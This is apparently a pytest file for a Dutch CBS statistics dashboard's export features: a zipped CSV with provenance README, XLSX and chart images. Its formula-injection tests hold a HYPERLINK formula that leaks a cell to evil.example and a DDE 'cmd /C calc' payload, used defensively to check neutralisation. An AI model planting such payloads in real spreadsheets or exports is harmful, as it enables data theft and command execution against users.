"""The download: CSV of the current view plus a README with source, licence, retrieval time
and caveats, in one zip."""
import io
import zipfile

import pandas as pd
import pytest

from data_sources.api import read_indicator
from data_sources.refresh import refresh_one
from ui.download import view_table, zip_bundle
from ui.language import speaking


def test_zip_has_csv_of_the_view_and_readme_with_provenance(cbs, store, catalogue):
    indicator = catalogue.indicator("testwonen.waarde")
    assert refresh_one(catalogue, store, indicator).ok
    data = read_indicator(store, indicator)
    frame = data.frame[data.frame["period_start"].dt.year >= 2020]
    payload = zip_bundle(frame, ["GM0363", "PV27"], data)
    with zipfile.ZipFile(io.BytesIO(payload)) as zf:
        assert sorted(zf.namelist()) == ["README.md", "testwonen.waarde.csv"]
        csv = pd.read_csv(zf.open("testwonen.waarde.csv"))
        readme = zf.read("README.md").decode("utf-8")
    assert set(csv["region_code"]) == {"GM0363", "PV27"}
    assert csv["period"].min() == "2020JJ00" and len(csv) == 10
    assert csv.loc[(csv["region_code"] == "GM0363") & (csv["period"] == "2024JJ00"), "value"].iloc[0] == 210.0
    for expected in ("99901TST", "Testtabel v3", "CC BY 4.0", "Bron: CBS", data.record.provenance.retrieved_at, "gat in 2019", "t-toets", "statline"):
        assert expected in readme, expected


def test_view_table_is_dutch(cbs, store, catalogue):
    indicator = catalogue.indicator("testwonen.waarde")
    refresh_one(catalogue, store, indicator)
    data = read_indicator(store, indicator)
    table = view_table(data.frame, ["NL01"], indicator)
    row = table[table["periode"] == "2024"].iloc[0]
    assert row["Waarde per woning (m³)"] == "1.090" and row["status"] == "voorlopig"


def test_readme_names_every_code_with_its_cbs_title(cbs, store, catalogue):
    from data_sources.refresh import refresh

    refresh(catalogue, store, catalogue.select(["testwonen"]))
    derived = read_indicator(store, catalogue.indicator("testwonen.per_persoon"))
    text = zip_text(derived, "nl")
    assert "testwonen.waarde / testwonen.aantal × 1000" in text  # for re-use: the ids, and in words
    assert "- berekend: ‘Waarde per woning’ gedeeld door ‘Aantal (v4)’, maal 1.000" in text
    assert "Woningtype = T001100 — Totaal woningen" in text and "Geslacht = T001038 — Totaal" in text
    assert "Waarde_1 — Waarde" in text and "M000001 — Testmaat" in text
    bare = read_indicator(store, catalogue.indicator("testwonen.derden"))
    assert "Woningtype = ZW25806 — titel niet beschikbaar" in zip_text(bare, "nl")
    assert "Woningtype = ZW25806 — title not available" in zip_text(bare, "en")


def zip_text(data, lang: str) -> str:
    with speaking(lang), zipfile.ZipFile(io.BytesIO(zip_bundle(data.frame, ["NL01"], data))) as zf:
        return zf.read("README.md").decode("utf-8")


HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'


def hostile_data(data):
    """``data`` with a region whose CBS title is a spreadsheet formula, and a negative value."""
    frame = data.frame.copy()
    frame["region_name"] = frame["region_name"].astype(str)
    gm = frame["region_code"] == "GM0363"
    frame.loc[gm, "region_name"] = HOSTILE
    frame.loc[gm & (frame["period"] == "2024JJ00"), "value"] = -12.5
    return frame


def test_csv_cells_cannot_become_formulas_and_numbers_stay_numbers(cbs, store, catalogue):
    indicator = catalogue.indicator("testwonen.waarde")
    refresh_one(catalogue, store, indicator)
    data = read_indicator(store, indicator)
    frame = hostile_data(data)
    with zipfile.ZipFile(io.BytesIO(zip_bundle(frame, ["GM0363"], data))) as zf:
        text = zf.read("testwonen.waarde.csv").decode("utf-8")
    csv = pd.read_csv(io.StringIO(text))
    assert set(csv["region_name"]) == {"'" + HOSTILE}
    assert csv.loc[csv["period"] == "2024JJ00", "value"].iloc[0] == -12.5  # still a number, no quote
    assert "\n=" not in text and ",=" not in text and ",-12.5," in text


def test_neutral_cell_prefixes_every_formula_start_and_leaves_numbers():
    from data_sources.spreadsheet import neutral_cell, neutral_frame

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutral_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
    for kept in ("-3", "+1,5", "-12.5", "2024", "Assen", -3.0, None):
        assert neutral_cell(kept) == kept
    frame = neutral_frame(pd.DataFrame({"=naam": ["@x", "ok"], "value": [-1.0, 2.0]}))
    assert list(frame.columns) == ["'=naam", "value"] and frame["value"].tolist() == [-1.0, 2.0]
    assert frame["'=naam"].tolist() == ["'@x", "ok"]


def test_xlsx_has_numbers_as_numbers_neutral_text_and_the_provenance(cbs, store, catalogue):
    import openpyxl

    from ui.download import xlsx_bundle

    indicator = catalogue.indicator("testwonen.waarde")
    refresh_one(catalogue, store, indicator)
    data = read_indicator(store, indicator)
    frame = hostile_data(data)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bundle(frame, ["NL01", "GM0363"], data)))
    assert book.sheetnames == ["Gegevens", "Bron en toelichting"]
    rows = list(book["Gegevens"].iter_rows(values_only=True))
    assert rows[0] == ("Regio", "code", "periode", "Waarde per woning (m³)", "status")
    nl_2024 = next(r for r in rows if r[1] == "NL01" and r[2] == "2024")
    assert nl_2024[3] == 1090 and isinstance(nl_2024[3], (int, float)) and nl_2024[4] == "voorlopig"
    gm_2024 = next(r for r in rows if r[1] == "GM0363" and r[2] == "2024")
    assert gm_2024[0] == "'" + HOSTILE and gm_2024[3] == -12.5
    assert all(cell.data_type != "f" for row in book["Gegevens"].iter_rows() for cell in row)
    about = "\n".join(str(r[0]) for r in book["Bron en toelichting"].iter_rows(values_only=True) if r[0])
    assert about.startswith("Waarde per woning\n") and book["Bron en toelichting"]["A1"].font.bold
    for expected in ("99901TST", "Testtabel v3", "CC BY 4.0", data.record.provenance.retrieved_at, "gat in 2019"):
        assert expected in about, expected
    assert book["Gegevens"]["D2"].number_format == "#,##0"


def test_profile_and_show_csv_are_neutral_too(filled, capsys, monkeypatch):
    import data_sources.__main__ as cli_module
    from views.gemeente import profile_csv

    table = pd.DataFrame([{c: HOSTILE if c == "indicator" else 1.5 for c in (
        "opgave", "indicator_id", "indicator", "unit", "period", "value", "rank", "count", "indeling", "nederland",
        "vergelijkbaar_mediaan", "trend", "bron", "opgehaald", "licentie")}])
    assert pd.read_csv(io.BytesIO(profile_csv(table)))["indicator"].iloc[0] == "'" + HOSTILE

    real_read = cli_module.read_indicator

    def hostile_read(store, indicator):
        data = real_read(store, indicator)
        data.frame = hostile_data(data)
        return data

    monkeypatch.setattr(cli_module, "read_indicator", hostile_read)
    capsys.readouterr()
    assert cli_module.main(["show", "testwonen.waarde", "--region", "GM0363", "--format", "csv"]) == 0
    shown = pd.read_csv(io.StringIO(capsys.readouterr().out))
    assert set(shown["region_name"]) == {"'" + HOSTILE} and -12.5 in shown["value"].tolist()


@pytest.mark.slow
def test_chart_image_carries_title_unit_and_source(cbs, store, catalogue, tmp_path):
    """PNG and SVG from plotly's static export (kaleido + chromium): the SVG's text nodes hold
    the title, the unit and the source line; the PNG has the slide's size and dark title pixels
    in its top band, where the chart without the frame has none."""
    from xml.etree import ElementTree

    from PIL import Image

    from ui import chart_image, charts
    from ui.provenance import source_text

    if not chart_image.available():
        pytest.skip("no Chrome or Chromium for plotly's static export")
    indicator = catalogue.indicator("testwonen.waarde")
    refresh_one(catalogue, store, indicator)
    data = read_indicator(store, indicator)
    chart = charts.time_series(data.frame, indicator, ["NL01", "GM0363"], "absoluut")
    source = source_text(data)
    assert source == "Bron: CBS, 99901TST — CC BY 4.0"
    framed = chart_image.framed(chart, "Waarde <a href='x'>per</a> woning", "m³ · Nederland, Amsterdam", source)

    svg = ElementTree.fromstring(chart_image.image(framed, "svg"))
    texts = [" ".join("".join(node.itertext()).split()) for node in svg.iter() if node.tag.endswith("text")]
    assert "Waarde <a href='x'>per</a> woning" in texts  # escaped: shown as text, no link
    assert not [n for n in svg.iter() if n.tag.endswith("}a")]
    assert "m³ · Nederland, Amsterdam" in texts and source in texts

    png = Image.open(io.BytesIO(chart_image.image(framed, "png"))).convert("L")
    assert png.size == (chart_image.WIDTH * chart_image.PNG_SCALE, chart_image.HEIGHT * chart_image.PNG_SCALE)
    bare = chart.update_layout(margin=dict(t=100 + 22, b=80))  # same room at the top, no title
    bare_png = Image.open(io.BytesIO(chart_image.image(bare, "png"))).convert("L")
    title_band = (0, 0, png.size[0] // 2, 40 * chart_image.PNG_SCALE)
    def dark(img, box, below):
        # pixels darker than ``below``
        return sum(img.crop(box).histogram()[:below])

    assert dark(png, title_band, 100) > 500 and dark(bare_png, title_band, 100) == 0
    footer = (0, png.size[1] - 40 * chart_image.PNG_SCALE, png.size[0] // 2, png.size[1])
    assert dark(png, footer, 160) > 200  # the source line
